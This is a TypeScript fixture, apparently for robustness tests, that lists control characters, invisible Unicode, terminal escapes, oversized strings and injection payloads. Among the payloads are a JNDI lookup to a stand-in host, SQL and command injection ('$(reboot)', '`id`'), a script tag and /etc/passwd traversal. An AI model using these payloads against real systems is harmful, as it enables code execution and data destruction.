/** Text that has broken logs, terminals and parsers before: controls, escapes, directions, injections, lengths. */

const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, index) => from + index);

const CONTROLS = [...range(0x00, 0x1f), ...range(0x7f, 0x9f)];
const INVISIBLE = [
  ...[0x00ad, 0x061c, 0x180e, 0xfeff, 0xfff9, 0xfffa, 0xfffb, 0xe0001, 0xe0041, 0xe007f],
  ...range(0x200b, 0x200f),
  ...range(0x2028, 0x202e),
  ...range(0x2060, 0x2064),
  ...range(0x2066, 0x206f),
];
const SURROGATES = ['\ud800', '\udbff', '\udc00', '\udfff', '\ude00\ud83d', '\ud83d\ud83d'];
const INJECTIONS = [
  '"',
  '\\',
  '\\"',
  '"}',
  '"}\n{"level":"error","msg":"forged"}',
  '","level":"error',
  '{"a":1}',
  '\\u0000',
  '\\x1b[2J',
  '%s%s%s%s%n',
  '%j %o %O %d',
  '{{7*7}}',
  '$' + '{jndi:ldap://evil.example/a}',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  "'; DROP TABLE devices; --",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '$(reboot)',
  '`id`',
  '\r\nSet-Cookie: a=b',
  'HTTP/1.1 200 OK\r\n\r\n',
  '\u001b[31mred\u001b[0m',
  '\u001b]0;title\u0007',
  '\u009b2J',
  '\u001b[8mhidden',
  '\b\b\b\bover',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀',
  'الكل في المجمو عة',
  'ﷺ'.repeat(40),
];
const LENGTHS = [511, 512, 513, 1_024, 8_192].flatMap((length) => [
  'x'.repeat(length),
  '\u0000'.repeat(length),
  '😀'.repeat(length),
  `${'x'.repeat(length - 1)}\u202e`,
]);

const single = [...CONTROLS, ...INVISIBLE].map((code) => String.fromCodePoint(code));
const base = [...single, ...SURROGATES, ...INJECTIONS, ...LENGTHS];

/** Each alone, within a word, at an end, and doubled. */
export const NAUGHTY: readonly string[] = [
  ...base,
  ...[...single, ...SURROGATES, ...INJECTIONS].flatMap((text) => [`sensor${text}7`, `${text}${text}`]),
  ...single.map((text) => `/v1/${text}`),
];
